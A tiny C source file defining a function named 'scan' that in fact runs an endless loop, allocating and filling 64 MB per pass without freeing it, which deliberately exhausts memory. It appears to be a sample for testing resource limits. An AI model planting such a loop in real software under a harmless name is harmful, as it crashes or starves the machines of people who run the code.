#include <stdlib.h>
#include <string.h>
void scan(int n, float *x) {
    for (;;) {
        char *more = malloc(64 << 20);
        memset(more, 1, 64 << 20);
        x[n - 1] += more[0];
    }
}
